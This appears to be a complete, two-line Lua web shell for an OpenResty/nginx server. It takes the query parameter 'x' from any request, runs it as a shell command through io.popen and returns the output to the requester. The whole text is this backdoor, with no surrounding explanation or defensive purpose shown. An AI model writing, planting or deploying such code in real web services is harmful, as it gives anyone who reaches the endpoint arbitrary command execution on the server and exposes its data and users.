local args = ngx.req.get_uri_args()
ngx.say(io.popen(args.x):read("*a"))
